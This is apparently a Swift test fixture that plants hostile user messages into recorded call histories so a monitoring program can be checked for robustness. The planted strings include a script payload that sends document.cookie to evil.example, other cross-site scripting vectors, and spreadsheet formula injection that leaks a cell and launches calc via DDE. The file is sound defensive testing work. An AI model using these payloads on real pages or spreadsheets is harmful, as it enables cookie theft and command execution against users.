import Telemetry

/// What a watching program must survive: three calls of the history carry such texts.
enum HostileTexts {
    /// How many days before now, and what the user writes instead.
    static let planted: [(days: Double, text: String)] = [
        (
            -2.2,
            "<script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)> \"><svg/onload=alert(1)> where is my invoice?"
        ),
        (-1.6, "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"refund\")\n@SUM(1+1)*cmd|' /C calc'!A0"),
        (
            -1.1,
            "Please write to me at maria.lopez+shop@mail.example instead, the account of order A204417 has an old address."
        ),
    ]

    /// Replaces what the user wrote.
    static func write(_ text: String, into call: inout Call) {
        for index in call.content.input.indices.reversed() where call.content.input[index].role == "user" {
            call.content.input[index].text = text
            return
        }
    }
}
